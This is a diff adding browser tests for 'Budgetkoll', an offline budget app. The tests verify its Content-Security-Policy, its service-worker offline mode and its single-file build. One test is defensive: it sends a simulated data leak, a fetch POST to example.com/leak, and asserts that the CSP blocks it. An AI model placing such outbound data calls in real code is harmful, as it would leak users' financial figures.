@@ -1,0 +1,136 @@
+// Offline and private by construction: the served app runs under a
+// Content-Security-Policy that reports no violation and lets nothing reach
+// another origin; after one visit its service worker opens the app with the
+// network gone; and dist/budgetkoll.html, the single-file build, works opened
+// from disk in a browser with no network at all.
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { pathToFileURL } from "node:url";
+import { start, shot, ROOT } from "./harness.mjs";
+import { serveDist } from "../../scripts/serve-dist.mjs";
+
+const DIST = join(ROOT, "dist");
+
+let env;
+before(async () => {
+  env = await start();
+});
+after(async () => {
+  await env?.close();
+});
+
+/** A fresh context and page that record console errors, exceptions, CSP
+ * violations and every request URL, before any of the page's scripts run. */
+async function open(browser) {
+  const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, locale: "sv-SE" });
+  await context.addInitScript(() => {
+    window.__violations = [];
+    document.addEventListener("securitypolicyviolation", (e) =>
+      window.__violations.push(`${e.effectiveDirective} blocked ${e.blockedURI}`),
+    );
+  });
+  const page = await context.newPage();
+  const problems = [];
+  const requests = [];
+  page.on("console", (m) => {
+    if (m.type() === "error") problems.push(`console: ${m.text()}`);
+  });
+  page.on("pageerror", (e) => problems.push(`exception: ${e.message}`));
+  page.on("request", (r) => requests.push(r.url()));
+  const violations = () => page.evaluate(() => window.__violations);
+  return { context, page, problems, requests, violations };
+}
+
+async function demoWorks(page) {
+  await page.getByRole("button", { name: "Visa exempel" }).click();
+  await page.locator("#overview-table").waitFor();
+  assert.match(await page.locator("#overview-table").innerText(), /42 Exempelförvaltningen[\s\S]*43 Servicecentrum/);
+}
+
+test("the served app runs under its CSP with no violation and cannot reach other origins", async () => {
+  const html = readFileSync(join(DIST, "index.html"), "utf8");
+  const csp = html.match(/http-equiv="Content-Security-Policy" content="([^"]*)"/)?.[1] ?? "";
+  assert.match(csp, /default-src 'self'/);
+  assert.match(csp, /connect-src 'self';/);
+  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'( 'sha256-[A-Za-z0-9+/=]+')+;/);
+  assert.doesNotMatch(csp, /'unsafe-eval'|\*|https?:/, "no eval, no wildcard, no other origin");
+
+  const { page, problems, violations } = await open(env.browser);
+  await page.goto(env.url);
+  await demoWorks(page);
+  // The overview's chart is SVG text with its own <style>: it must render too.
+  await page.locator("svg").first().waitFor();
+  assert.deepEqual(await violations(), []);
+  assert.deepEqual(problems, []);
+
+  // A script that tried to send figures elsewhere would be stopped.
+  const outcome = await page.evaluate(() =>
+    fetch("https://example.com/leak", { method: "POST", body: "42" }).then(
+      () => "sent",
+      () => "blocked",
+    ),
+  );
+  assert.equal(outcome, "blocked");
+  assert.deepEqual(await violations(), ["connect-src blocked https://example.com/leak"]);
+});
+
+test("after one visit the service worker opens the app with no network", async () => {
+  // A server of our own, so it can be shut down as well as the network.
+  const { server, url } = await serveDist(DIST);
+  const { context, page, problems, violations } = await open(env.browser);
+  try {
+    await page.goto(url);
+    await page.getByRole("heading", { name: "Budgetkoll" }).waitFor();
+    await page.evaluate(() => navigator.serviceWorker.ready);
+    await page.reload();
+    assert.ok(await page.evaluate(() => navigator.serviceWorker.controller !== null), "page controlled by the worker");
+    const cached = await page.evaluate(async () => {
+      const keys = await caches.keys();
+      const cache = await caches.open(keys.find((k) => k.startsWith("budgetkoll-")));
+      return (await cache.keys()).map((r) => new URL(r.url).pathname);
+    });
+    assert.ok(cached.includes("/index.html"));
+    assert.ok(cached.some((p) => p.endsWith("_bg.wasm")));
+    assert.ok(!cached.includes("/sw.js"));
+
+    await context.setOffline(true);
+    server.closeAllConnections();
+    await new Promise((ok) => server.close(ok));
+    await page.reload();
+    await demoWorks(page);
+    await shot(page, "offline-served");
+    assert.deepEqual(await violations(), []);
+    assert.deepEqual(problems, []);
+  } finally {
+    await context.close();
+    server.close();
+  }
+});
+
+test("budgetkoll.html works from disk with no network and asks for nothing", async () => {
+  const single = join(DIST, "budgetkoll.html");
+  const text = readFileSync(single, "utf8");
+  assert.doesNotMatch(text, /serviceWorker/, "no worker in the single file");
+  assert.match(text, /connect-src 'none'/);
+
+  const { context, page, problems, requests, violations } = await open(env.browser);
+  try {
+    await context.setOffline(true);
+    const url = pathToFileURL(single).href;
+    await page.goto(url);
+    await page.getByRole("heading", { name: "Budgetkoll" }).waitFor();
+    await demoWorks(page);
+    await shot(page, "offline-single-file");
+    assert.deepEqual(await violations(), []);
+    assert.deepEqual(problems, []);
+    assert.deepEqual(
+      requests.filter((r) => r !== url && !r.startsWith("data:")),
+      [],
+      "nothing but the file itself (and inline data) is requested",
+    );
+  } finally {
+    await context.close();
+  }
+});
